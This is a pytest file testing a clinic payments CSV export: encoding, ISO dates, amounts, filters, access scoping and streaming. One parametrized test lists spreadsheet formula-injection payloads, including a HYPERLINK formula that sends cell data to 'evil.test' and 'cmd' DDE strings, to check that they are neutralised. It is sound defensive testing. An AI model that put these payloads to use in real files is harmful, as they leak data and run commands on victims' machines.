"""Export CSV: the filtered payments (all of them, not one page), UTF-8 with a BOM, ISO dates in
the clinic's time zone, amounts as plain decimals, and cells that a spreadsheet would run as a
formula (starting with = + - @) neutralised."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.test import AsyncClient
from django.urls import reverse

from carecall.payments import reports
from carecall.payments.models import PaymentStatus
from carecall.payments.reports import csv_export, csv_safe
from carecall.payments.tests.test_records_support import (
    UTC,
    add_request,
    at,
    csv_rows,
    response_body,
)
from testsupport.world import World, client_for

HEADER = [
    "reference",
    "requested_at",
    "paid_at",
    "clinic",
    "patient",
    "payer",
    "clinician",
    "description",
    "currency",
    "amount",
    "refunded",
    "status",
    "card_brand",
    "card_last4",
    "stripe_payment_intent",
]


def _csv_url(world: World) -> str:
    return reverse("payments:clinic_payments_csv", args=[world.harbour.pk])


def test_the_export_is_an_attachment_in_utf8_with_bom_iso_dates_and_decimal_amounts(
    world: World,
) -> None:
    pr = add_request(
        clinic=world.harbour,
        clinician=world.clinician,
        created_at=at("2026-03-10 13:30", UTC),
        paid_at=at("2026-03-10 13:41:07", UTC),
        first_name="Zoë",
        last_name="Đặng",
        description="Consultation — 30 min, “long”",
        amount=12050,
        status=PaymentStatus.PARTIALLY_REFUNDED,
        amount_refunded=2005,
        card=("amex", "0005"),
    )

    response = client_for(world.clinic_admin).get(_csv_url(world))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="payments-harbour-gp.csv"'
    body = response_body(response)  # a stream: read once
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM, as UTF-8 bytes
    assert body.decode("utf-8").splitlines()[0] == "\ufeff" + ",".join(HEADER)
    (row,) = csv_rows(body)
    assert row == {
        "reference": pr.reference,
        "requested_at": "2026-03-11T00:30:00+11:00",
        "paid_at": "2026-03-11T00:41:07+11:00",
        "clinic": "Harbour GP",
        "patient": "Zoë Đặng",
        "payer": "Zoë Đặng",
        "clinician": "Chris Lee",
        "description": "Consultation — 30 min, “long”",
        "currency": "AUD",
        "amount": "120.50",
        "refunded": "20.05",
        "status": "partially_refunded",
        "card_brand": "amex",
        "card_last4": "0005",
        "stripe_payment_intent": pr.payment_intent_id,
    }


def test_an_unpaid_request_has_an_empty_paid_at_and_zero_decimal_currencies_have_no_point(
    world: World,
) -> None:
    world.harbour.currency = "JPY"
    world.harbour.save()
    add_request(
        clinic=world.harbour,
        clinician=world.clinician,
        created_at=at("2026-07-01 09:00"),  # winter in Sydney: +10:00
        amount=5000,
        status=PaymentStatus.REQUESTED,
    )

    (row,) = csv_rows(client_for(world.clinic_admin).get(_csv_url(world)))

    assert (row["requested_at"], row["paid_at"]) == ("2026-07-01T09:00:00+10:00", "")
    assert (row["currency"], row["amount"], row["refunded"]) == ("JPY", "5000", "0")
    assert (row["card_brand"], row["card_last4"]) == ("", "")


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.test/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ],
    ids=["equals", "plus", "minus", "at"],
)
def test_a_description_or_name_starting_like_a_formula_is_exported_as_text(
    world: World, dangerous: str
) -> None:
    add_request(
        clinic=world.harbour,
        clinician=world.clinician,
        created_at=at("2026-03-10 10:00"),
        description=dangerous,
        first_name=dangerous[:80],
        last_name="",
    )

    (row,) = csv_rows(client_for(world.clinic_admin).get(_csv_url(world)))

    assert row["description"] == "'" + dangerous
    assert row["patient"] == "'" + dangerous[:80]
    assert row["payer"] == "'" + dangerous[:80]


def test_text_that_only_contains_formula_characters_later_is_left_alone() -> None:
    assert csv_safe("Follow-up = 2 visits @ clinic") == "Follow-up = 2 visits @ clinic"
    assert csv_safe("") == ""
    assert csv_safe("\t=1+1") == "'\t=1+1"
    assert csv_safe("\r=1+1") == "'\r=1+1"


def test_the_export_has_every_filtered_row_newest_first_not_just_one_page(world: World) -> None:
    start = at("2026-04-01 09:00")
    made = [
        add_request(
            clinic=world.harbour,
            clinician=world.clinician,
            created_at=start + timedelta(hours=i),
            description=f"Session {i}",
        )
        for i in range(55)
    ]
    add_request(
        clinic=world.harbour,
        clinician=world.clinician,
        created_at=start,
        status=PaymentStatus.REQUESTED,
        description="Unpaid",
    )
    add_request(clinic=world.northside, clinician=world.other_clinician, created_at=start)

    rows = csv_rows(client_for(world.clinic_admin).get(_csv_url(world), {"status": "paid"}))

    assert [r["reference"] for r in rows] == [pr.reference for pr in reversed(made)]


def test_the_export_follows_the_date_and_text_filters(world: World) -> None:
    add_request(
        clinic=world.harbour,
        clinician=world.clinician,
        created_at=at("2026-03-10 23:59"),
        first_name="Ava",
    )
    keep = add_request(
        clinic=world.harbour,
        clinician=world.clinician,
        created_at=at("2026-03-11 00:01"),
        first_name="Ava",
    )
    add_request(
        clinic=world.harbour,
        clinician=world.clinician,
        created_at=at("2026-03-11 10:00"),
        first_name="Liam",
    )

    rows = csv_rows(
        client_for(world.clinic_admin).get(
            _csv_url(world), {"from": "2026-03-11", "to": "2026-03-11", "q": "ava"}
        )
    )

    assert [r["reference"] for r in rows] == [keep.reference]


def test_a_clinicians_export_has_only_the_requests_they_made(world: World) -> None:
    mine = add_request(
        clinic=world.harbour, clinician=world.clinician, created_at=at("2026-03-10 10:00")
    )
    add_request(
        clinic=world.harbour, clinician=world.clinic_admin, created_at=at("2026-03-10 11:00")
    )

    rows = csv_rows(client_for(world.clinician).get(_csv_url(world)))

    assert [r["reference"] for r in rows] == [mine.reference]


def test_the_organisation_export_names_each_rows_clinic_in_its_own_file(world: World) -> None:
    add_request(clinic=world.harbour, clinician=world.clinician, created_at=at("2026-03-10 10:00"))
    add_request(
        clinic=world.northside, clinician=world.other_clinician, created_at=at("2026-03-10 11:00")
    )
    add_request(
        clinic=world.other_clinic, clinician=world.outsider, created_at=at("2026-03-10 12:00")
    )

    response = client_for(world.org_admin).get(
        reverse("payments:org_payments_csv", args=[world.organisation.pk])
    )

    assert response["Content-Disposition"] == 'attachment; filename="payments-demo-health.csv"'
    assert [r["clinic"] for r in csv_rows(response_body(response))] == [
        "Northside Physio",
        "Harbour GP",
    ]


def test_bad_filters_get_400_with_the_reason_and_no_file(world: World) -> None:
    add_request(clinic=world.harbour, clinician=world.clinician, created_at=at("2026-03-10 10:00"))

    response = client_for(world.clinic_admin).get(
        _csv_url(world), {"from": "2026-03-12", "to": "2026-03-01", "format": "xlsx"}
    )

    assert response.status_code == 400
    assert "Content-Disposition" not in response
    body = response_body(response).decode()
    assert "Unknown filters: format." in body
    assert "The start date is after the end date." in body


def test_csv_export_alone_writes_the_header_even_without_rows() -> None:
    text = csv_export([], timezone="Australia/Sydney")
    assert text == "\ufeff" + ",".join(HEADER) + "\r\n"


def test_the_export_streams_under_asgi_in_chunks_as_the_rows_arrive(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Through the async client (Django's ASGI path): the header leaves first, then the rows a
    chunk at a time, never one string built in memory."""
    monkeypatch.setattr(reports, "CSV_ROWS_PER_CHUNK", 2)
    made = [
        add_request(
            clinic=world.harbour, clinician=world.clinician, created_at=at(f"2026-03-1{day} 10:00")
        )
        for day in range(5)
    ]

    async def fetch() -> list[bytes]:
        client = AsyncClient()
        await client.aforce_login(world.clinic_admin)
        response: Any = await client.get(_csv_url(world))
        assert response.status_code == 200
        assert response.streaming and response.is_async
        return [chunk async for chunk in response.streaming_content]

    chunks = async_to_sync(fetch)()

    assert chunks[0].decode("utf-8") == "\ufeff" + ",".join(HEADER) + "\r\n"
    assert [chunk.count(b"\r\n") for chunk in chunks[1:]] == [2, 2, 1]
    assert {r["reference"] for r in csv_rows(b"".join(chunks))} == {pr.reference for pr in made}
